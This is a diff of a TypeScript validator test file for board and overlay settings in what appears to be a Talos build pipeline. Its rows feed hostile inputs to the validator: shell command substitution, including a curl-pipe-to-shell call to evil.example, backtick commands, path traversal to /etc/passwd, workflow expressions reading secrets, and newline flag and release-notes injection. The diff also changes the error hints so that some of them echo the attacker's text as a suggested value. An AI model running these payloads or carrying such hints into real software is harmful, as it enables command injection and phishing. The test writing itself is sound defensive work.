@@ -93,12 +93,12 @@ const OVERLAY_BOARD_ROWS: Row<Project>[] = [
   {
     title: 'boardName with a command substitution',
     declare: (p) => withBoard(p, { boardName: 'nanopi-m6$(reboot)' }),
-    expected: BOARD + '  - boardName = "nanopi-m6$(reboot)": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
+    expected: BOARD + '  - boardName = "nanopi-m6$(reboot)": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6-reboot"',
   },
   {
     title: 'boardName with backticks',
     declare: (p) => withBoard(p, { boardName: 'nanopi`id`' }),
-    expected: BOARD + '  - boardName = "nanopi`id`": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
+    expected: BOARD + '  - boardName = "nanopi`id`": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-id"',
   },
   {
     title: 'boardName with a newline',
@@ -108,12 +108,12 @@ const OVERLAY_BOARD_ROWS: Row<Project>[] = [
   {
     title: 'boardName with path traversal (it names the asset file)',
     declare: (p) => withBoard(p, { boardName: '../../etc/passwd' }),
-    expected: BOARD + '  - boardName = "../../etc/passwd": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
+    expected: BOARD + '  - boardName = "../../etc/passwd": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "etc-passwd"',
   },
   {
     title: 'boardName with a workflow expression',
     declare: (p) => withBoard(p, { boardName: '${{ github.actor }}' }),
-    expected: BOARD + '  - boardName = "${{ github.actor }}": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
+    expected: BOARD + '  - boardName = "${{ github.actor }}": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "github-actor"',
   },
   {
     title: 'boardName in upper case',
@@ -123,27 +123,27 @@ const OVERLAY_BOARD_ROWS: Row<Project>[] = [
   {
     title: 'boardName longer than 40 characters',
     declare: (p) => withBoard(p, { boardName: 'nanopi-m6-' + 'x'.repeat(31) }),
-    expected: BOARD + '  - boardName = "nanopi-m6-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
+    expected: BOARD + '  - boardName = "nanopi-m6-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"',
   },
   {
     title: 'empty boardName',
     declare: (p) => withBoard(p, { boardName: '' }),
-    expected: BOARD + '  - boardName = "": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
+    expected: BOARD + '  - boardName = "": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "my-board"',
   },
   {
     title: 'displayName with a workflow expression reading a secret',
     declare: (p) => withBoard(p, { displayName: 'NanoPi ${{ secrets.DOCKERHUB_TOKEN }}' }),
-    expected: BOARD + '  - displayName = "NanoPi ${{ secrets.DOCKERHUB_TOKEN }}": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "FriendlyElec NanoPi M6"',
+    expected: BOARD + '  - displayName = "NanoPi ${{ secrets.DOCKERHUB_TOKEN }}": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "NanoPi {{ secrets.DOCKERHUB_TOKEN }}"',
   },
   {
     title: 'displayName with backticks',
     declare: (p) => withBoard(p, { displayName: 'NanoPi `reboot`' }),
-    expected: BOARD + '  - displayName = "NanoPi `reboot`": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "FriendlyElec NanoPi M6"',
+    expected: BOARD + '  - displayName = "NanoPi `reboot`": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "NanoPi reboot"',
   },
   {
     title: 'displayName with a newline (release notes injection)',
     declare: (p) => withBoard(p, { displayName: 'NanoPi M6\n## Download the fixed image from evil.example' }),
-    expected: BOARD + '  - displayName = "NanoPi M6\\n## Download the fixed image from evil.example": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "FriendlyElec NanoPi M6"',
+    expected: BOARD + '  - displayName = "NanoPi M6\\n## Download the fixed image from evil.example": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "NanoPi M6 ## Download the fixed image from evil.example"',
   },
   {
     title: 'overlayName with a command separator',
@@ -178,17 +178,17 @@ const OVERLAY_BOARD_ROWS: Row<Project>[] = [
   {
     title: 'overlay option value with a command substitution',
     declare: (p) => withBoard(p, { overlayOptions: { board: 'nanopi-m6$(curl -s evil.example|sh)' } }),
-    expected: BOARD + '  - overlayOptions.board = "nanopi-m6$(curl -s evil.example|sh)": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6", or pass free text in overlayTextOptions',
+    expected: BOARD + '  - overlayOptions.board = "nanopi-m6$(curl -s evil.example|sh)": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6curl-sevil.examplesh", or pass free text in overlayTextOptions',
   },
   {
     title: 'overlay option value with a newline smuggling a flag',
     declare: (p) => withBoard(p, { overlayOptions: { board: 'nanopi-m6\n--privileged' } }),
-    expected: BOARD + '  - overlayOptions.board = "nanopi-m6\\n--privileged": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6", or pass free text in overlayTextOptions',
+    expected: BOARD + '  - overlayOptions.board = "nanopi-m6\\n--privileged": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6--privileged", or pass free text in overlayTextOptions',
   },
   {
     title: 'overlay option value with a workflow expression',
     declare: (p) => withBoard(p, { overlayOptions: { board: '${{ github.event.head_commit.message }}' } }),
-    expected: BOARD + '  - overlayOptions.board = "${{ github.event.head_commit.message }}": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6", or pass free text in overlayTextOptions',
+    expected: BOARD + '  - overlayOptions.board = "${{ github.event.head_commit.message }}": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "github.event.head_commit.message", or pass free text in overlayTextOptions',
   },
   {
     title: 'overlay option value with quotes',
@@ -321,8 +321,8 @@ const OVERLAY_BOARD_ROWS: Row<Project>[] = [
   {
     title: 'several hostile values at once: one error listing each',
     declare: (p) => withBoard(p, { boardName: 'm6;reboot', talosVersion: 'v1.10', overlayOptions: { board: '`id`' } }),
-    expected: BOARD + '  - boardName = "m6;reboot": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"\n'
-      + '  - overlayOptions.board = "`id`": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6", or pass free text in overlayTextOptions\n'
+    expected: BOARD + '  - boardName = "m6;reboot": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "m6-reboot"\n'
+      + '  - overlayOptions.board = "`id`": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "id", or pass free text in overlayTextOptions\n'
       + '  - talosVersion = "v1.10": a Talos version must look like "v1.10.6" (or "v1.14.0-rc.1"). Fix: use the exact release tag of siderolabs/talos, with the leading "v"',
   },
 ];
@@ -737,7 +737,7 @@ const REPO_SECRETS_ROWS: Row<TerraformStack>[] = [
   {
     title: 'empty variable name',
     declare: (s) => repoSecrets(s, { variables: { '': 'x' } }),
-    expected: SECRETS + '  - variables."" = "": a GitHub Actions variable name must not be empty. Fix: name the variable, e.g. "TALOS_VERSION"',
+    expected: SECRETS + '  - variables[""] = "": a GitHub Actions variable name must not be empty. Fix: name the variable, e.g. "TALOS_VERSION"',
   },
   {
     title: 'secret name GITHUB_TOKEN',
